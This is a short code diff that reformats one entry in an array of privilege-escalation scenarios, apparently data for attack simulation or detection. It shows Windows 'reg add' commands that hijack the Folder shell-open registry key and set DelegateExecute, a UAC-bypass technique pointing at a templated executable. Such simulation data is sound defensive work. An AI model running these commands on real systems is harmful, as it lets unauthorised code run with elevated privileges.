@@ -200,7 +200,9 @@ export const privilegeEscalationB = [
     v("sdclt-folder", [
       {
         cmd: 'reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /ve /d "{{tmp}}\\{{rand}}.exe" /f',
-        reg: [["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "(Default)", "{{tmp}}\\{{rand}}.exe"]],
+        reg: [
+          ["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "(Default)", "{{tmp}}\\{{rand}}.exe"],
+        ],
       },
       {
         cmd: "reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /v DelegateExecute /f",
